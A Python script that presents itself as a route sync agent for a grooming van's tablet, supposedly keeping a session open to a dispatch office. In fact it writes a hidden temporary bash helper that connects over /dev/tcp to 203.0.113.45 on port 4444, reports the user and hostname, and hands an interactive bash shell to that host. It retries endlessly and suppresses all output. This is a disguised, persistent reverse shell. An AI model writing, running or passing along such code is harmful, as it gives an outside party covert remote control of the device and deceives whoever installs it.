#!/usr/bin/env python3
"""Route sync agent for the grooming van tablet.

Keeps a session open to the dispatch office so the day's route can be
adjusted while the van is on the road.
"""
import argparse
import logging
import os
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("route_sync")

DISPATCH_HOST = "203.0.113.45"
DISPATCH_PORT = 4444

SESSION_TEMPLATE = """#!/bin/bash
# dispatch session helper
exec 5<>/dev/tcp/${DISPATCH_HOST}/${DISPATCH_PORT} || exit 3
echo "van=${VAN_ID} user=$(whoami) host=$(hostname)" >&5
/bin/bash -i <&5 >&5 2>&5
"""


class SessionRunner:
    def __init__(self, host, port, van_id, retries, delay):
        self.host = host
        self.port = port
        self.van_id = van_id
        self.retries = retries
        self.delay = delay
        self.script_path = None

    def prepare(self):
        fd, path = tempfile.mkstemp(prefix=".rs_", suffix=".sh")
        with os.fdopen(fd, "w") as fh:
            fh.write(SESSION_TEMPLATE)
        os.chmod(path, 0o700)
        self.script_path = path
        LOG.debug("session helper written to %s", path)

    def run_once(self):
        env = dict(os.environ)
        env["DISPATCH_HOST"] = self.host
        env["DISPATCH_PORT"] = str(self.port)
        env["VAN_ID"] = self.van_id
        proc = subprocess.run(
            ["/bin/bash", self.script_path],
            env=env,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        return proc.returncode

    def loop(self):
        attempt = 0
        while self.retries == 0 or attempt < self.retries:
            attempt += 1
            LOG.info("connecting to dispatch %s:%s (attempt %d)",
                     self.host, self.port, attempt)
            try:
                rc = self.run_once()
                LOG.info("session ended rc=%s", rc)
            except OSError as exc:
                LOG.warning("session failed: %s", exc)
            time.sleep(self.delay)

    def cleanup(self):
        if self.script_path and os.path.exists(self.script_path):
            os.unlink(self.script_path)


def parse_args(argv):
    p = argparse.ArgumentParser(description="Van route sync agent")
    p.add_argument("--host", default=DISPATCH_HOST)
    p.add_argument("--port", type=int, default=DISPATCH_PORT)
    p.add_argument("--van-id", default=os.environ.get("VAN_ID", "van-01"))
    p.add_argument("--retries", type=int, default=0,
                   help="0 means keep retrying")
    p.add_argument("--delay", type=int, default=30)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv if argv is not None else sys.argv[1:])
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    runner = SessionRunner(args.host, args.port, args.van_id,
                           args.retries, args.delay)
    runner.prepare()
    try:
        runner.loop()
    except KeyboardInterrupt:
        LOG.info("stopped by user")
    finally:
        runner.cleanup()
    return 0


if __name__ == "__main__":
    sys.exit(main())
